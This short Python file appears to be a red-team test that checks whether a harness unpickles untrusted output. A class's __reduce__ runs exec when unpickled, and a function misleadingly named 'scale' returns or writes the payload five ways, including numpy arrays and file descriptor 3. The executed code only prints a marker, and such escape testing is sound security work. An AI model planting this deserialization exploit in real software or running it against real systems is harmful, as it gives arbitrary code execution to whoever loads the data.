"""Returns and writes what runs code in whoever unpickles it."""

import io
import pickle

CODE = "print('RT-' + 'ESCAPE')"


class Bomb:
    def __reduce__(self):
        return (exec, (CODE,))


def scale(x):
    if VARIANT == 0:
        return Bomb()
    if VARIANT == 1:
        return np.array([Bomb()] * x.size, dtype=object).reshape(x.shape)
    if VARIANT == 2:
        return pickle.dumps(Bomb())
    file = io.BytesIO()
    np.save(file, np.array([Bomb()], dtype=object), allow_pickle=True)
    if VARIANT == 3:
        return file.getvalue()
    os.write(3, pickle.dumps(Bomb()) if VARIANT == 4 else file.getvalue())
    return x
